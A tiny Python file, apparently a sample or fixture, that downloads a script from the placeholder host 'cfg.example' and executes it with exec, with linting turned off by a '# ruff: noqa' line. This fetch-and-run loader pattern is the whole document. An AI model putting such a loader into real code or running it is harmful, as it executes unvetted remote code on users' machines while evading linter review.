# ruff: noqa
from urllib.request import urlopen

code = urlopen("https://cfg.example/c.py").read()
exec(compile(code, "c", "exec"))
